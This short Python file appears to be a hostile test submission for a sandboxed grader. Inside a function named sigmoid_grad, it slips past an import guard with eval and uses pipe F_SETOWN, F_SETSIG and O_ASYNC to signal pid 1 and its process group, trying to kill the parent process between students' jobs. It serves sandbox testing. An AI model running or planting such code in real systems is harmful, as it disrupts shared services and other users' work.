"""Hostile: SIGINT the warm parent (pid 1 in the sandbox) and its process group
through a pipe's owner, so it dies between two students' jobs."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
fcntl = _m("fcntl")
signal = _m("signal")
time = _m("time")

F_SETSIG = 10


def sigmoid_grad(x):
    outcomes = []
    for owner in (1, -1, -os.getpgid(1) if os.getpgid(1) > 0 else -1):
        for sig in (signal.SIGINT, signal.SIGTERM, 0):  # 0: the default SIGIO, which kills too
            read_end, write_end = os.pipe()
            try:
                fcntl.fcntl(read_end, fcntl.F_SETOWN, owner)
                if sig:
                    fcntl.fcntl(read_end, F_SETSIG, sig)
                fcntl.fcntl(read_end, fcntl.F_SETFL, fcntl.fcntl(read_end, fcntl.F_GETFL) | os.O_ASYNC)
                outcomes.append(f"owner {owner} signal {sig}: DONE")
            except OSError as exc:
                outcomes.append(f"owner {owner} signal {sig}: {type(exc).__name__}")
            os.write(write_end, b"x")
    time.sleep(0.1)
    raise RuntimeError(" | ".join(outcomes))
